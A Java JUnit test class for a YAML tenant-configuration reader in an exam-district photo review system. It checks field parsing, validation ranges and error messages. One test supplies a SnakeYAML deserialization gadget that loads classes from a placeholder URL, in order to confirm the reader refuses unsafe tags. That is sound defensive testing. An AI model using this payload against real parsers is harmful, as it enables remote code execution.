package cn.shenhe.district;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.Reader;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class TenantConfigReaderTest {

    private static final String GOOD = """
            code: bj
            name: { zh: 北京考区, en: Beijing }
            examYear: 2027
            review:
              mode: online-review
              publishOutcomes: on-publish
              commentTemplates:
                - { zh: 照片模糊, en: Blurred }
            uploadWindow:
              opens: 2026-11-01T00:00:00+08:00
              closes: 2027-03-31T23:59:59+08:00
            watermark: 北京考区
            sites:
              - code: bj-01
                name: { zh: 东城考点, en: Dongcheng }
            plugins:
              - id: standard-materials
                settings:
                  maxBytes: 204800
              - id: online-review
            """;

    @Test
    void readsEveryField() {
        DistrictConfig d = TenantConfigReader.read("bj.yaml", new StringReader(GOOD));
        assertEquals("bj", d.code());
        assertEquals("北京考区", d.name().zh());
        assertEquals(2027, d.examYear());
        assertEquals("online-review", d.review().mode());
        assertEquals(15, d.review().claimMinutes(), "claims last 15 minutes unless configured");
        assertEquals(DistrictConfig.Publication.ON_PUBLISH, d.review().publishOutcomes());
        assertEquals("照片模糊", d.review().commentTemplates().getFirst().zh());
        assertEquals("bj-01", d.sites().getFirst().code());
        assertEquals("standard-materials", d.plugins().getFirst().id());
        assertEquals(204800, d.plugins().getFirst().settings().longValue("maxBytes", 0));
        assertTrue(d.uploadWindow().isOpenAt(Instant.parse("2026-12-01T00:00:00Z")));
        assertFalse(d.uploadWindow().isOpenAt(Instant.parse("2026-10-31T15:59:59Z")));
        assertTrue(d.uploadWindow().isOpenAt(Instant.parse("2026-10-31T16:00:00Z")), "opens at midnight Beijing time");
        assertTrue(d.storedSide().isEmpty(), "the server's stored side unless the district sets one");
    }

    @Test
    void aDistrictMaySetItsStoredSide() {
        DistrictConfig d = TenantConfigReader.read("bj.yaml", new StringReader(GOOD + "pictures: { storedSide: 3000 }\n"));
        assertEquals(3000, d.storedSide().getAsInt());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "{ storedSide: 1199 }|pictures.storedSide|between 1200 and 4000",
            "{ storedSide: 4001 }|pictures.storedSide|between 1200 and 4000",
            "{ storedSide: wide }|pictures.storedSide|not a whole number",
            "{ side: 2000 }|pictures.side|unknown field",
    })
    void aStoredSideOutOfRangeIsRefused(String pictures, String field, String problem) {
        TenantConfigException e = assertThrows(TenantConfigException.class,
                () -> TenantConfigReader.read("bj.yaml", new StringReader(GOOD + "pictures: " + pictures + "\n")));
        assertEquals(field, e.field());
        assertTrue(e.getMessage().contains(problem), e.getMessage());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "examYear: 2027|examYear: next-year|examYear|not a whole number",
            "mode: online-review|mode: By Post|review.mode|not a plugin id",
            "mode: online-review|mode: onsite-review|review.mode|must also be listed under plugins",
            "publishOutcomes: on-publish|publishOutcomes: later|review.publishOutcomes|on-publish or immediately",
            "publishOutcomes: on-publish|claimMinutes: 0|review.claimMinutes|between 1 and 1440",
            "- { zh: 照片模糊, en: Blurred }|- { zh: 照片模糊 }|review.commentTemplates[0].en|missing",
            "closes: 2027-03-31T23:59:59+08:00|closes: someday|uploadWindow.closes|not a date-time",
            "closes: 2027-03-31T23:59:59+08:00|closes: 2020-01-01T00:00:00+08:00|uploadWindow.closes|after uploadWindow.opens",
            "- code: bj-01|- code: sh-01|sites[0].code|must start with 'bj-'",
            "- id: standard-materials|- id: Bad Plugin|plugins[0].id|not a plugin id",
            "watermark: 北京考区|colour: red|colour|unknown field",
            "code: bj|code: gd|code|does not match the file name",
            "name: { zh: 北京考区, en: Beijing }|name: { zh: 北京考区 }|name.en|missing",
    })
    void namesTheFileAndTheBadField(String from, String to, String field, String problem) {
        TenantConfigException e = assertThrows(TenantConfigException.class,
                () -> TenantConfigReader.read("bj.yaml", new StringReader(GOOD.replace(from, to))));
        assertEquals("bj.yaml", e.file());
        assertEquals(field, e.field());
        assertTrue(e.getMessage().startsWith("bj.yaml: " + field + ": "), e.getMessage());
        assertTrue(e.getMessage().contains(problem), e.getMessage());
    }

    @Test
    void refusesNonYamlAndUnsafeTags() {
        assertThrows(TenantConfigException.class, () -> TenantConfigReader.read("bj.yaml", new StringReader("code: [unclosed")));
        TenantConfigException e = assertThrows(TenantConfigException.class, () -> TenantConfigReader.read("bj.yaml",
                new StringReader("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]")));
        assertEquals("(document)", e.field());
    }

    @Test
    void theDemoDistrictsAreValid() throws IOException {
        try (DirectoryStream<Path> files = Files.newDirectoryStream(Path.of("../../tenant-configs"), "*.yaml")) {
            int n = 0;
            for (Path f : files) {
                try (Reader r = Files.newBufferedReader(f, StandardCharsets.UTF_8)) {
                    TenantConfigReader.read(f.getFileName().toString(), r);
                    n++;
                }
            }
            assertEquals(3, n);
        }
    }
}
